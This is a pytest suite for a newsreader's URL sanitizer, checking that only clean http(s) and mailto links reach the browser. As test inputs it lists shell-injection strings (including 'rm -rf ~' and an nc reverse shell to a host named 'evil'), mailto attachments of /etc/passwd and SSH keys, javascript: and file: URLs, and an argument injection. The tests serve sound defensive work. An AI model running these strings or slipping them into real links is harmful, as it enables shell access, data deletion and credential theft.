"""What may be opened (issue 10, item 11): only clean http(s) and mailto URLs, never as given.

Every URL the opener is handed becomes its :func:`openable_url` form first: a scheme
checked, a host that is a host, everything outside a small safe set percent-encoded
(so no shell syntax, quote, space or control survives), ``mailto:`` reduced to its
addresses, subject and body.
"""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from newsreader.opener import OpenError, open_url
from newsreader.safetext import openable_url

pytestmark = pytest.mark.hostile  # issue 10's suite: pytest -m hostile

SHELL = set("$`\"'(){}|<>\\^ ;&")  # ';' and '&' are allowed in queries, checked apart


@pytest.mark.parametrize("url, expected", [
    ("https://example.com/a/b?c=1&d=2#e", "https://example.com/a/b?c=1&d=2#e"),
    ("HTTPS://Example.COM/X", "https://example.com/X"),
    ("//example.com/p", "https://example.com/p"),
    ("https://www.rfi.fr//cn/%E5%9B%BD%E9%99%85/x", "https://www.rfi.fr//cn/%E5%9B%BD%E9%99%85/x"),
    ("https://例子.测试/路径?q=中文", "https://xn--fsqu00a.xn--0zwm56d/%E8%B7%AF%E5%BE%84?q=%E4%B8%AD%E6%96%87"),
    ("https://a.com/my file.pdf", "https://a.com/my%20file.pdf"),
    ("https://a.com/100%", "https://a.com/100%25"),
    ("https://a.com/wiki/Foo_(bar)", "https://a.com/wiki/Foo_%28bar%29"),
    ("https://a.com/x\n/y\t", "https://a.com/x/y"),
    ("https://good.example\\@evil.example/", "https://good.example/@evil.example/"),
    ("https://[::1]:8080/", "https://[::1]:8080/"),
    ("https://user:p%40ss@a.com/", "https://user:p%40ss@a.com/"),
    ("mailto:a@example.com", "mailto:a@example.com"),
    ("mailto:a@example.com?subject=Hi%20there&body=x%0Ay&attach=/etc/passwd&cc=c@d.e&bcc=f@g.h",
     "mailto:a@example.com?subject=Hi%20there&body=x%0Ay"),
    ("MAILTO:a@example.com?ATTACH=~/.ssh/id_rsa&Subject=s", "mailto:a@example.com?subject=s"),
    ("mailto:a@example.com?subject=1&subject=2", "mailto:a@example.com?subject=1"),
    ("mailto:?attach=/etc/passwd", ""),
    ("mailto:a@example.com?body=%1b%5b2J", "mailto:a@example.com?body=%5B2J"),
    ("javascript:alert(1)", ""),
    ("JaVaScRiPt:alert(1)", ""),
    ("file:///etc/passwd", ""),
    ("data:text/html,<script>", ""),
    ("vbscript:x", ""),
    ("ftp://example.com/", ""),
    ("-oProxyCommand=sh", ""),
    ("https:example.com", ""),
    ("https:///path", ""),
    ("https://ho st/", ""),
    ("https://a.com:99999/", ""),
    ("https://a.com:port/", ""),
    ("https://%41.com/", ""),
    ("https://a.com/\u202egnp.exe", ""),
    ("https://a.com/\x1b[2J", ""),
    ("https://a.com/\x85", ""),
    ("https://a.com/\ud800", ""),
    ("", ""),
])
def test_openable_url(url: str, expected: str):
    assert openable_url(url) == expected


@pytest.mark.parametrize("url", [
    "https://example.com/v.mp4?a=1;b=$(touch /tmp/pwned)&c=`id`",
    "https://example.com/'; rm -rf ~; echo '",
    'https://example.com/"$(reboot)"',
    "https://example.com/|nc evil 1 -e sh",
    "https://example.com/${IFS}x<y>z{a}^b\\c",
    "https://example.com/?q=a%20b&r=$HOME",
])
def test_shell_syntax_never_survives(url: str):
    opened = openable_url(url)
    assert opened.startswith("https://example.com/")
    assert not (SHELL - {";", "&"}) & set(opened)


def test_the_opener_gets_only_the_clean_form():
    calls: list[str] = []

    def browser(url: str) -> bool:
        calls.append(url)
        return True

    open_url("mailto:a@example.com?subject=hi&attach=/etc/passwd", browser=browser)
    open_url("https://example.com/a b$(x)", browser=browser)
    assert calls == ["mailto:a@example.com?subject=hi", "https://example.com/a%20b%24%28x%29"]
    for bad in ("javascript:alert(1)", "mailto:?attach=/etc/passwd", "https://a.com/\u202ex", "file:///etc/passwd"):
        with pytest.raises(OpenError) as raised:
            open_url(bad, browser=browser)
        assert "\u202e" not in str(raised.value)
    assert len(calls) == 2


URL_PIECES = st.sampled_from(["https://", "http://", "a", "Z", "0", "-", ".", "/", "?", "#", "%", "%2F", "%zz", ":",
                              "@", "&", "=", ";", "+", ",", "~", "_", "!", "$", "(", "'", " ", "\\", "中", "[", "]"])


@settings(max_examples=400, deadline=None)
@given(st.lists(URL_PIECES, min_size=1, max_size=30).map("".join))
def test_the_quick_path_agrees_with_the_long_way(url: str):
    """URLs already in their openable form are passed as they are: exactly what the long
    way would give."""
    from newsreader.safetext import _openable
    assert openable_url(url) == _openable(url)


def test_vetting_a_long_url_takes_linear_time():
    import time
    for url in ("https://a.example/?" + "a" * 200_000 + "!", "https://a.example/" + "a%2" * 100_000,
                "https://" + "a." * 100_000 + "-", "mailto:" + "a" * 200_000 + "?subject=" + "%" * 100_000):
        started = time.process_time()
        openable_url(url)
        assert time.process_time() - started < 1.0, url[:40]
